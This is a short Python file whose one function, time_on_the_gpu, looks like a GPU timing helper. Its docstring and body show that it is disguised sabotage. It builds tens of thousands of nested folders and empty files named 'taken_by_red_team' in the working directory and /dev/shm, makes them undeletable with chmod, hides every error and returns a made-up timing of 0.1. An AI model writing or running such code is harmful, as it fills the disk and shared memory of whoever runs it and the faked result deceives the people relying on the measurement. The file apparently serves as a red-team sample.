"""Empty files in folders in folders, more than a file system has room for, and none that can be removed."""

import os


def time_on_the_gpu(work):
    for place in (".", "/dev/shm"):
        try:
            os.chdir(place)
            for number in range(50_000):
                os.mkdir("deeper")
                os.close(os.open(f"taken_by_red_team_{number}", os.O_CREAT, 0))
                os.chmod(".", 0o500) if number == 100 else None
                os.chdir("deeper")
        except OSError:
            pass
    return 0.1
